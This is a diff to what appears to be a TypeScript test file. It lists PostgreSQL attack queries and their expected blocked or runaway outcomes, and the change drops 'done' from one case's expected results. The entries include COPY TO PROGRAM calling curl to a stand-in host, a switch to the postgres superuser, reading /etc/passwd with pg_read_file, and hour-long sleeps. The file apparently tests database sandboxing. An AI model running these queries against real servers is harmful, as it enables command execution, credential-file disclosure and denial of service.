@@ -11,7 +11,7 @@ const RULING = 'SET SESSION AUTHORIZATION postgres;'
 export const postgresqlAttacks: Attack[] = [
   ['an endless count', `${NUMBERS} SELECT count(*) FROM n;`, [...ENDLESS, ...FULL]],
   ['a program', "COPY (SELECT 1) TO PROGRAM 'curl BAIT/program';", REFUSED],
-  ['a program of the one who rules', `${RULING} COPY (SELECT 1) TO PROGRAM 'curl BAIT/program';`, [...REFUSED, ...ENDLESS, 'done']],
+  ['a program of the one who rules', `${RULING} COPY (SELECT 1) TO PROGRAM 'curl BAIT/program';`, [...REFUSED, ...ENDLESS]],
   ['a long sleep', 'SELECT pg_sleep(3600);', ENDLESS],
   ['a file of the machine', "SELECT pg_read_file('/etc/passwd');", REFUSED],
   ['a file of the machine for the one who rules', `${RULING} SELECT pg_read_file('/etc/passwd');`, REFUSED],
